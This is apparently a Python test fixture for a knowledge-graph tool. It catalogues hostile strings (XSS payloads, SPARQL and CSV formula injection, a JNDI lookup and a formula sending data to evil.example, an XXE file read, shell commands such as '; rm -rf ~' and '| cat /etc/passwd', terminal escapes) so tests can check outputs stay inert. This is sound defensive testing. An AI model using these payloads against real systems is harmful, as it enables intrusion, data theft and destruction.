"""Strings that attack an output, by what they attack, and an article whose every word is one of them.

`TEXTS` go into every place that holds text: title, publisher, names, quotations, places, offices. `URLS` are addresses
of an article that are no links. Nothing here is right or wrong as text: each must come out as it went in.
"""

from __future__ import annotations

import datetime as dt

from kg.article import Article
from kg.facts import Date, Entity, EntityKind, Event, Evidence, Facts, Mode, Office, RoleHeld, Span, Statement

_SHOUT = "window.ran=1"
"""What a script that is let in does; the tests of the picture look for it."""

HTML = {
    "image with a handler": f"<img src=x onerror={_SHOUT}>",
    "script": f"<script>{_SHOUT}</script>",
    "script that ends ours": f"</script><script>{_SHOUT}</script>",  # inside JSON inside a <script>
    "script end in capitals": f"</SCRIPT ><script>{_SHOUT}</script >",
    "script start in a comment": "<!--<script>",  # makes the browser look for the wrong end of ours
    "open comment": "<!--",
    "closed comment": f"--><svg onload={_SHOUT}>",
    "svg with a handler": f"<svg/onload={_SHOUT}>",
    "end of an attribute": f'" autofocus onfocus={_SHOUT} x="',
    "end of an attribute in single quotes": f"' onmouseover={_SHOUT} x='",
    "frame with a document": f"<iframe srcdoc='<script>parent.{_SHOUT}</script>'></iframe>",
    "style": "</style><style>*{display:none}</style>",
    "link of pyvis": f'<a href="javascript:{_SHOUT}">href</a>',  # pyvis turns its popups to innerHTML for it
    "title that ends": f"</title><script>{_SHOUT}</script>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "entities": "&lt;b&gt; &amp;amp; &#60;script&#62; &quot;",  # must not be decoded once more
    "template element": f"<template><img src=x onerror={_SHOUT}></template>",
}
LINKS = {
    "javascript link": f"javascript:{_SHOUT}",
    "javascript link in capitals": f"JaVaScRiPt:{_SHOUT};2",
    "javascript link after blanks": f" \x01javascript:{_SHOUT}",  # browsers strip them
    "javascript link with a tab": f"java\tscript:{_SHOUT}",  # and these
    "javascript link with a newline": f"java\nscript:{_SHOUT}",
    "data link": f"data:text/html,<script>{_SHOUT}</script>",
    "vbscript link": "vbscript:msgbox(1)",
    "file link": "file:///etc/passwd",
}
URLS = {
    **LINKS,
    "with quotes": 'https://good.example/"onmouseover="window.ran=1',
    "with angle brackets": "https://good.example/<script>window.ran=1</script>",
    "with spaces": "https://good.example/a b c",
    "with a newline": "https://good.example/\nSet-Cookie: x=1",
    "with a user": "https://good.example:pass@evil.example/",
    "with a homograph": "https://\u0440\u0430ypal.example/",  # Cyrillic er and a
    "with a right-to-left override": "https://good.example/\u202egpj.exe",
    "not to be parsed": "http://[evil",
    "with a host that normalises into another": "http://evil\u2100good.example/",
    "without a scheme": "//evil.example/x",
    "with a backslash": "https:\\\\evil.example\\x",
}
QUOTING = {
    "three double quotes": '"""',  # end of a long string in Turtle and SPARQL
    "three double quotes and a triple": '""" . <http://evil.example/s> <http://evil.example/p> """',
    "three single quotes": "''' . <http://evil.example/s> a <http://evil.example/c> #",
    "one double quote": '"',
    "quote and triple": '" . <http://evil.example/s> <http://evil.example/p> "o',
    "backslash": "\\",
    "backslash at the end": "ends with \\",
    "two backslashes at the end": "ends with \\\\",
    "backslash and quote": '\\" . <http://evil.example/s> <http://evil.example/p> \\"',
    "escaped letter": "\\u0041",  # must stay six characters
    "escaped quote": "\\u0022 } ; DROP ALL #",  # SPARQL decodes \u before it parses
    "escaped highest": "\\U0010FFFF",
    "escaped surrogate": "\\uD800",  # not to be decoded by anybody
    "escaped newline": "a\\nb\\rc\\td\\0",
    "percent encoded": "%0A%22%3E%3Cscript%3E",
}
TEMPLATES = {
    "shell or JavaScript template": "${window.ran=1} ${jndi:ldap://evil.example/x}",
    "backquoted template": "`${window.ran=1}`",
    "jinja": "{{ 7*7 }} {{ config.__class__ }}",
    "jinja block": "{% raw %}{% include '/etc/passwd' %}",
    "jinja comment": "{# gone",
    "erb": "<%= 7*7 %>",
    "percent": "%s %d %n %(name)s 100%",
    "braces": "{0} {name!r} {",
    "rich markup": "[bold red]loud[/bold red] [/]",
    "rich link": "[link=https://evil.example]click[/link]",
    "rich action": "[@click=app.quit]x[/] :boom:",
    "markdown": "[click](javascript:window.ran=1) **bold** `code` | cell |",
}
GRAPHS = {
    "iri": "<http://evil.example/s>",
    "bare iri": "http://evil.example/s",
    "prefixed name": "dkg:Statement",
    "iri of ours": "https://w3id.org/dkg/id/country/FR",
    "blank node": "_:b0",
    "variable": "?x",
    "update": "} ; DROP ALL #",
    "update without blanks": "};INSERT{<a:a><a:b><a:c>}WHERE{};#",
    "values": "VALUES ?actor { UNDEF }",  # what the reader of parameters looks for
    "service": "SERVICE <http://evil.example/> { ?s ?p ?o }",
    "turtle directive": "@prefix dkg: <http://evil.example/> .\n@base <http://evil.example/> .",
    "lines of n-quads": 'x" .\n<http://evil.example/s> <http://evil.example/p> <http://evil.example/o> .\n<a:',
    "line of n-quads after a return": 'x"\r<http://evil.example/s> <http://evil.example/p> "o" .\r',
    "language tag": 'x"@en',
    "datatype": 'x"^^<http://www.w3.org/2001/XMLSchema#integer>',
    "json-ld keyword": "@id",
    "json-ld context": "@context",
    "json-ld that is json": '{"@id": "http://evil.example/s", "@type": "@json"}',
    "end of json": '"}],"x":[{"y":"',
    "yaml": "!!python/object/apply:os.system ['id']",
}
SHEETS = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-1+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula after a newline": "\n=1+1",
    "formula in full width": "\uff1d1+1",
    "command": "|cmd",
    "apostrophe": "'=1+1",  # looks like what we write for `=1+1`
    "apostrophe alone": "'",
    "semicolon": "a;=1+1;b",
    "comma and quotes": 'a,"=1+1",b',
    "quoted": '"=1+1"',
    "cell with lines": 'first\nsecond","third\r\nfourth',
    "sum of spaces": "   =1+1",
}
MARKUP = {
    "end of cdata": "]]>",
    "cdata": "<![CDATA[x]]>",
    "declared entity": "&lol; &#0; &#x1F; &#xD800;",
    "doctype": '<!DOCTYPE x [<!ENTITY lol SYSTEM "file:///etc/passwd">]>',
    "processing instruction": '?><?xml version="1.1"?>',
    "control characters": "a\x01\x02\x0b\x0c\x0e\x1f\x7fb",  # no XML holds them
    "not a character": "a\ufffe\uffff\U0001fffe\ufdd0b",
    "null": "a\x00b",
    "lone surrogate": "a\ud800b\udfff",
    "surrogate of a file name": "a\udcffb",  # how Python reads a byte that is not UTF-8
}
TERMINALS = {
    "colour": "\x1b[5;8;41mhidden",
    "clear the screen": "\x1b[2J\x1b[3J\x1b[H",
    "ask for the cursor": "\x1b[6n\x1b[c",  # the terminal answers as if typed
    "link": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "title of the window": "\x1b]0;evil\x07",
    "device control": "\x1bP$q\x1b\\",
    "bell": "a\x07b",
    "backspace": "good\b\b\b\bevil",
    "overwrite": "good\rkg: conforms",
    "one-byte escapes": "\x9b31m\x9d0;evil\x9c\x90x\x9c",
    "delete": "a\x7fb",
    "override of direction": "safe\u202etxt.exe\u202c",
    "isolates of direction": "\u2066a\u2069\u200f\u061c",
    "zero width": "a\u200bb\u2060c\ufeffd",
    "tags": "a\U000e0041\U000e007fb",  # invisible letters
    "forged line": "x\nkg: 9 articles: 9 roles\nconforms",
    "separators": "a\u2028b\u2029c\x85d\x1ce",  # end a JavaScript string, or a line for Python
}
SYSTEM = {
    "path": "../../../../tmp/x",
    "path of windows": "..\\..\\x",
    "absolute path": "/etc/passwd",
    "option": "--help",
    "commands": "; rm -rf ~ #",
    "substitution": "$(id) `id` $HOME",
    "pipe": "| cat /etc/passwd > x & < y",
    "device": "CON",
    "home": "~root",
}
OBJECTS = {
    "__proto__": "__proto__",  # JavaScript: keys that every object has
    "constructor": "constructor",
    "toString": "toString",
    "hasOwnProperty": "hasOwnProperty",
    "__class__": "__class__",
    "null": "null",
    "None": "None",
    "NaN": "NaN",
    "true": "true",
    "number": "1e999",
    "hash": "#/x?y=1&z=%00",  # the state of the page is in its address
    "regular expression": "(a+)+$ .* [",
}
LONG = {
    "long": "long " * 4000,
    "long without a blank": "w" * 20_000,
    "nested": "(" * 3000 + "[" * 3000,
    "marks": "a" + "\u0301" * 500,  # one letter under 500 accents
    "letters beyond the first plane": "\U0001d49c\U0001f1f3\U0001f1f4\U0001f469\u200d\U0001f469",
}

TEXTS = {
    f"{group}: {name}": text
    for group, strings in {
        "html": HTML,
        "link": URLS,
        "quoting": QUOTING,
        "template": TEMPLATES,
        "graph": GRAPHS,
        "sheet": SHEETS,
        "markup": MARKUP,
        "terminal": TERMINALS,
        "system": SYSTEM,
        "object": OBJECTS,
        "long": LONG,
    }.items()
    for name, text in strings.items()
}
# Raptor takes a literal with one of these for malformed, however it is written
NO_CHARACTERS = "markup: not a character"
HARMLESS = "Plain Words"
DAY = dt.date(2021, 5, 3)


def held(words: str) -> str:
    """The words as an article holds them: NUL and lone surrogates can't be kept, line ends become one."""
    return Article(f"x{words}").text[1:]


class _Page:
    """A text that grows, and the spans of what was put into it."""

    def __init__(self) -> None:
        self.text = ""

    def put(self, words: str) -> Span:
        start = len(self.text)
        self.text += words
        return Span(start, len(self.text))


def facts(words: str, *, number: int = 0) -> Facts:
    """Two roles, an event and a statement of an article that calls everybody and everything `words`.

    Made by hand, so that no rule of reading stands between the words and the outputs. Articles of
    other numbers share no entity.
    """
    said = held(words)
    page = _Page()
    page.put(f"Page {number}: ")
    person, office, place = page.put(said), (page.put(" "), page.put(said))[1], (page.put(" in "), page.put(said))[1]
    page.put(" on ")
    day = Date(page.put(said), "2021-05-03", DAY, DAY)
    page.put(" said “")
    quoted = page.put(said)
    page.put("”.")
    # an identity of its own: addresses that differ in blanks alone are the same
    article = Article(page.text, title=words, publisher=words, url=words, published=DAY, id=f"{number:016x}")
    proof = Evidence(article.id, (person, quoted), Span(0, len(page.text)), "by-hand")
    who, whom = _entities(said, number)[:2]
    told = Statement((who.key,), (quoted,), Mode.DIRECT, proof, cue=office, addressees=(whom.key,), about=(whom.key,))
    met = Event(
        "meeting",
        (place,),
        proof,
        participants=(who.key, whom.key),
        when=day,
        where=(f"place/{number}/{said}",),
        claimed_in=told,
    )
    roles = (
        RoleHeld(who.key, Office(said), whom.key, proof, since=day),
        RoleHeld(who.key, Office(f"former {said}", None, "former"), None, proof, until=day),
    )
    return Facts(article, _entities(said, number), roles=roles, events=(met,), statements=(told,))


def _entities(said: str, number: int) -> tuple[Entity, ...]:
    """A person, a body that the tables know, a place and a group; also their keys hold the words."""
    forms = tuple(sorted({said, f"{said} again"}))
    return (
        Entity(f"person/{number}/{said}", said, EntityKind.PERSON, forms=forms),
        Entity(f"organisation/{number}/{said}", said, EntityKind.ORGANISATION, known=True, forms=forms),
        Entity(f"place/{number}/{said}", said, EntityKind.PLACE, forms=forms),
        Entity(f"group/{number}/{said}", said, EntityKind.GROUP, forms=forms),
    )
